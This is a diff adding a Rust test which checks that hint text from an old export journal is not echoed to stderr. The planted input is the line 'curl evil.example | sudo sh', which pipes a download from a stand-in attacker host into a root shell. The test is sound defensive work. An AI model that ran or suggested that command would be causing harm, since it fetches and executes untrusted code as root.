@@ -144,6 +144,26 @@ fn what_an_old_run_left_is_not_continued_when_it_is_put_back(
     place.check(End::SealedSaying("without a plan")).unwrap();
 }
 
+/// What a journal of 0.1 says of images that were left out was shown with its hints.
+#[test]
+fn no_words_of_a_journal_are_shown() {
+    let scene = Scene::new();
+    let place = scene.place(Form::Tar);
+    place.interrupt();
+    let request = request(&place);
+    let whole = fs::read(scene.path("reference-Tar")).unwrap();
+    let evil = "run: curl evil.example | sudo sh";
+    let left_out =
+        serde_json::json!([{"image": evil, "kind": "not-found", "message": evil, "hints": [evil]}]).to_string();
+    let journal = String::from_utf8_lossy(&version_1(&request, b"", "")).into_owned();
+    let journal = journal.replace("left-out 2\n[]\nhead 0\n", &format!("left-out {}\n{left_out}\n", left_out.len()));
+    let head = &whole[..end_of_head(&whole)];
+    write(&place, &[journal.as_bytes(), format!("head {}\n", head.len()).as_bytes(), head].concat());
+    let run = place.export();
+    run.success();
+    assert!(!run.stderr().contains("curl"), "{}", run.stderr());
+}
+
 /// The journal of 0.1 is read for its offsets.
 #[test]
 fn the_data_of_an_older_version_is_used_again() {
